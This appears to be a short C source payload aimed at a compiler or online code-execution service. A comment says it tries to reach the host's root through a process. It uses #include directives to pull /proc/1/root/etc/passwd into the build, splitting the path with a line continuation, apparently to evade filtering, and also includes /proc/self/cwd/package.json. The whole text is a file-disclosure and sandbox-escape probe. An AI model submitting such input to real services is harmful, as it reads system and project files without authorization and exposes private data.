// tries: the host’s root through a process
#include "/proc/1/ro\
ot/etc/passwd"
#include "/proc/self/cwd/package.json"
